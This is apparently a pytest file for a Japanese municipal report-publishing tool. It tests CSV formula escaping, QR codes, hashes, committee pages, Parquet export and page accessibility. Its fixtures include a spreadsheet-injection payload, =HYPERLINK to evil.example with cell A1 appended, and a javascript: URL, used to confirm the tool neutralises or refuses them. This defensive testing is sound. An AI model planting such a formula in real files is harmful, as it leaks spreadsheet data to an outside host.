"""The sheets to print, their QR code and hash, texts that look like formulas, the data as Parquet."""

import io
import json
import re
from collections.abc import Iterable, Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import lxml.html
import openpyxl
import pytest
import zxingcpp
from PIL import Image, ImageDraw
from pyarrow import parquet

from kosei_xl.publish import parquet as parquet_of
from kosei_xl.publish.columns import TableName
from kosei_xl.publish.data import FileMade
from kosei_xl.publish.edition import Edition
from kosei_xl.publish.qr import qr_code
from kosei_xl.publish.rows import DataRow, data_rows
from kosei_xl.values.fields import EntryField
from kosei_xl.values.model import EntriesFile, PlanFile
from kosei_xl.values.refusals import WrongCall
from kosei_xl.verbs import publish
from kosei_xl.verbs.folders import FolderInMemory
from kosei_xl.words import terms
from tests.tools.office import kosei
from tests.tools.published import (
    DAY,
    END,
    HALF,
    csv_rows,
    every_byte,
    master_of,
    problems_of,
    published,
    sample_with_amounts,
    seen,
    table,
    with_texts,
)
from tests.tools.sheets import write

ADDRESS = "https://www.city.midorigahara.example/gyokaku/R7/index.html?page=1&lang=ja#main"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"開く")'


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample with its address and Parquet; some of its texts look like formulas."""
    own = tmp_path_factory.mktemp("sheets")
    made = with_texts(sample_with_amounts(), "m-001", name="@SUM(1)の取組", results=FORMULA, issues="\n=1+1\n・二行目")
    published(master_of(own, made), own / "公表", address=ADDRESS, parquet=True)
    return own / "公表"


def sheet(folder: Path, name: str) -> Any:
    return lxml.html.document_fromstring((folder / name).read_text(encoding="utf-8"))


# -- texts that look like formulas ---------------------------------------------------------------------------------------
def test_csv__text_like_a_formula__does_not_begin_so_and_is_proven(folder: Path) -> None:
    (row,) = (row for row in csv_rows(folder, "ratings.csv") if (row["項目ID"], row["報告時点"]) == ("m-001", END))
    assert (row["項目名"], row["取組実績"]) == ("'@SUM(1)の取組", f"'{FORMULA}")
    assert row["課題・改善点"] == "'=1+1\n・二行目"  # as it was read back from the master
    assert problems_of(folder) == []
    signs = re.compile(r"\s*[=@＝＠]|[\t\r]|\s*[+\-＋－](?![\d,.]*$)")
    for path in (folder / "data").glob("*.csv"):
        for row in csv_rows(folder, path.name):
            assert [text for pair in row.items() for text in pair if signs.match(text)] == []


def test_other_forms__text_like_a_formula__as_it_is_and_no_formula(folder: Path) -> None:
    made = json.loads((folder / "data/data.json").read_text(encoding="utf-8"))
    (values,) = (one for one in made["ratings"] if (one["id"], one["point"]) == ("m-001", END))
    assert (values["name"], values["results"]) == ("@SUM(1)の取組", FORMULA)
    cells = [
        cell for row in openpyxl.load_workbook(folder / "data/data.xlsx")["評価と取組"].iter_rows() for cell in row
    ]
    assert {cell.data_type for cell in cells if cell.value == FORMULA} == {"s"}
    assert "f" not in {cell.data_type for cell in cells}
    assert FORMULA in seen(sheet(folder, "index.html").xpath("//article[@data-id='m-001']")[0])


def test_csv__apostrophes__said_in_dictionary_and_package(folder: Path) -> None:
    said = next(row for row in csv_rows(folder, "dictionary.csv") if row["ファイル"] == "（すべてのCSV）")
    package = json.loads((folder / "data/datapackage.json").read_text(encoding="utf-8"))
    assert package["description"] == said["内容"]
    assert "「'」" in said["内容"]


def test_csv__its_apostrophe_taken_away__the_file_is_named(folder: Path, tmp_path: Path) -> None:
    name = "data/ratings.csv"
    data = (folder / name).read_bytes()
    assert data.count(b"'=HYPERLINK") == 1
    files = {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    for path, content in {**files, name: data.replace(b"'=HYPERLINK", b"=HYPERLINK")}.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(content)
    assert [(one.code, dict(one.params)["name"]) for one in problems_of(tmp_path)] == [("K562", name)]


# -- QR code and hash -----------------------------------------------------------------------------------------------------
def read_code(svg: str) -> str:
    """What a reader sees in the code, drawn from its squares."""
    side = int(re.findall(r"viewBox=\"0 0 (\d+)", svg)[0])
    picture = Image.new("L", (side * 4, side * 4), 255)
    draw = ImageDraw.Draw(picture)
    for x, y in re.findall(r"M(\d+) (\d+)h1v1h-1z", svg):
        draw.rectangle((int(x) * 4, int(y) * 4, int(x) * 4 + 3, int(y) * 4 + 3), fill=0)
    (found,) = zxingcpp.read_barcodes(picture)
    return str(found.text)


def test_digest__address_given__its_code_leads_there(folder: Path) -> None:
    html = (folder / "digest.html").read_text(encoding="utf-8")
    (svg,) = re.findall(r'<svg class="qr".*?</svg>', html)
    assert read_code(svg) == ADDRESS
    assert [link for link in sheet(folder, "digest.html").xpath("//a/@href") if link.startswith("http")] == [ADDRESS]


@pytest.mark.parametrize("address", ["http://a.jp", f"https://a.example/{'x' * 480}"])
def test_code__any_length__read_back(address: str) -> None:
    assert read_code(str(qr_code(address))) == address


def test_digest__no_address__no_code(tmp_path: Path) -> None:
    published(master_of(tmp_path, sample_with_amounts(), first_published=False), tmp_path / "公表")
    assert '<svg class="qr"' not in (tmp_path / "公表/digest.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("address", ["www.city.example", "javascript:alert(1)", "https://市.example/", "https://a b"])
def test_address__not_one__refused(tmp_path: Path, address: str) -> None:
    master = master_of(tmp_path, sample_with_amounts(), first_published=False)
    with pytest.raises(WrongCall, match="アドレス"):
        published(master, tmp_path / "公表", address=address)
    assert not (tmp_path / "公表").exists()


@pytest.mark.parametrize("name", ["digest.html", "committee.html"])
def test_sheet__hash__the_page_s_and_what_the_command_says(folder: Path, name: str) -> None:
    (whole,) = sheet(folder, "index.html").xpath("//*[@data-hash-of='data']")
    (short,) = sheet(folder, name).xpath("//*[@data-hash-of='data']")
    assert "".join(short.text_content().split()) == whole.text_content()[:16]
    assert whole.text_content() in kosei("verify", "--public", folder).err


# -- for the committee ----------------------------------------------------------------------------------------------------
def test_committee__counts_and_change__as_on_the_page(folder: Path) -> None:
    page, own = sheet(folder, "index.html"), sheet(folder, "committee.html")
    assert table(own, "分野ごとの評価") == table(page, "分野ごとの評価")
    rows = [row for row in csv_rows(folder, "ratings.csv") if row["報告時点"] == END and row["種別"] == "評価"]
    text = seen(own.find(".//main"))
    for word in ("上がった", "変わらない", "下がった"):
        assert f"{word}項目は{sum(row['前回から'] == word for row in rows)}項目" in text
    late = [row for row in rows if row["遅れ"] == "true" and not row["再掲元ID"]]
    shown = own.xpath("//section[contains(@class, 'late')]")
    assert len(shown) == len(late) > 0
    for row, card in zip(late, shown, strict=True):
        assert "".join(row["項目名"].split()) in seen(card)
        assert "".join(row["要因"].split())[:10] in seen(card)


@pytest.mark.parametrize("when", ["before", "after"])
def test_committee__what_it_wrote_last_time__beside_what_came_of_it(tmp_path: Path, when: str) -> None:
    """Mostly it writes about a point when its papers are out and the point is closed."""
    plan, entries = sample_with_amounts()
    field = EntryField(field="opinion", label="委員会の意見", type="text", filled_by="committee")
    shown = next(one for one in plan.plan.columns if one.source == "entry" and one.part == "list")
    column = shown.model_copy(update={"key": "opinion", "label": "委員会の意見", "heading": None})
    fields = {name: getattr(plan.plan, name) for name in type(plan.plan).model_fields}
    own = {"fields": (*plan.plan.fields, field), "columns": (*plan.plan.columns, column)}
    asked = tuple(
        one.model_copy(update={"fields": {**one.fields, "opinion": "窓口の人手は足りるか。"}})
        if (one.item_key, one.sub_no, one.point) == ("m-001", "", HALF) and when == "before"
        else one
        for one in entries.entries
    )
    made = (
        PlanFile(plan=type(plan.plan).model_validate({**fields, **own})),
        EntriesFile(plan_id=plan.plan.plan_id, entries=asked),
    )
    master = master_of(tmp_path, made)
    if when == "after":
        write(master, terms.LEDGER_SHEET, f"{HALF}|m-001|", {"opinion": "窓口の人手は足りるか。"})
    published(master, tmp_path / "公表", draft=True)
    assert problems_of(tmp_path / "公表") == []
    (card,) = sheet(tmp_path / "公表", "committee.html").xpath(
        "//h2[contains(., '前回の委員会の意見')]/following-sibling::section[not(contains(@class, 'late'))]"
    )
    assert "令和７年度上半期の委員会の意見窓口の人手は足りるか。" in seen(card)
    (row,) = (r for r in csv_rows(tmp_path / "公表", "ratings.csv") if (r["項目ID"], r["報告時点"]) == ("m-001", END))
    assert "".join(row["取組実績"].split())[:10] in seen(card)


# -- Parquet --------------------------------------------------------------------------------------------------------------
def test_parquet__every_table__the_rows_of_the_json_and_in_the_package(folder: Path) -> None:
    made = json.loads((folder / "data/data.json").read_text(encoding="utf-8"))
    package = json.loads((folder / "data/datapackage.json").read_text(encoding="utf-8"))
    listed = {one["path"] for one in package["files"]}
    for name, rows in made.items():
        read = parquet.read_table(folder / f"data/{name}.parquet").to_pylist()
        plain = [
            {key: value.isoformat() if hasattr(value, "isoformat") else value for key, value in row.items()}
            for row in read
        ]
        assert plain == rows
        assert f"data/{name}.parquet" in listed


def test_parquet__not_installed__said_so_and_nothing_made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    master = master_of(tmp_path, sample_with_amounts(), first_published=False)
    monkeypatch.setitem(__import__("sys").modules, "pyarrow", None)
    with pytest.raises(WrongCall, match="pyarrow"):
        published(master, tmp_path / "公表", parquet=True)
    assert not (tmp_path / "公表").exists()
    published(master, tmp_path / "公表")


def test_parquet__of_publish__some_rows_in_memory_at_a_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows are counted as they are asked for, and as their piece is written: never more than a group between."""
    asked, written, most = 0, 0, 7
    real_rows, real_write = data_rows, FolderInMemory.write
    gaps: list[int] = []

    def rows(edition: Edition, name: TableName) -> Iterator[DataRow]:
        nonlocal asked
        for row in real_rows(edition, name):
            asked += 1
            gaps.append(asked - written)
            yield row

    def write(self: FolderInMemory, path: str, pieces: Iterable[bytes]) -> FileMade:
        def counted() -> Iterator[bytes]:
            nonlocal written
            for piece in pieces:
                yield piece
                written = asked

        return real_write(self, path, counted() if path.endswith(".parquet") else pieces)

    monkeypatch.setattr(parquet_of, "_GROUP_ROWS", most)
    monkeypatch.setattr(parquet_of, "data_rows", rows)
    monkeypatch.setattr(FolderInMemory, "write", write)
    master = master_of(tmp_path, sample_with_amounts())
    files = publish.public_files(master, END, publish.PublishWishes(DAY, draft=True, parquet=True))
    found = [parquet.read_metadata(io.BytesIO(data)) for name, data in files.items() if name.endswith(".parquet")]
    assert asked == written == sum(one.num_rows for one in found) > 10 * most
    assert max(gaps) == most
    assert max(one.row_group(n).num_rows for one in found for n in range(one.num_row_groups)) == most


def test_files__in_memory__those_of_the_folder(tmp_path: Path) -> None:
    master = master_of(tmp_path, sample_with_amounts())
    published(master, tmp_path / "公表", draft=True)
    files = publish.public_files(master, END, publish.PublishWishes(DAY, draft=True))
    there = {name: data.partition(b"\n")[2] for name, data in every_byte(tmp_path / "公表")}
    assert dict(files) == there


@pytest.mark.parametrize("name", ["digest.html", "committee.html"])
def test_sheet__structure__heads_language_names_of_pictures(folder: Path, name: str) -> None:
    page = sheet(folder, name)
    assert page.get("lang") == "ja"
    assert page.xpath("//a[@class='skip']/@href") == ["#main"]
    levels = [int(one.tag[1]) for one in page.xpath("//h1|//h2|//h3|//h4")]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    for one in page.xpath("//table"):
        assert one.find("caption") is not None
        assert all(head.get("scope") in ("col", "row") for head in one.xpath(".//th"))
    assert [one.get("role") for one in page.xpath("//svg[not(@aria-hidden='true')]")] == (
        ["img"] if name == "digest.html" else []
    )
    places = set(sheet(folder, "index.html").xpath("//@id"))
    links = [link.partition("#") for link in page.xpath("//a/@href") if link.startswith("index.html")]
    assert len(links) > 10
    assert {place for _, _, place in links} <= places
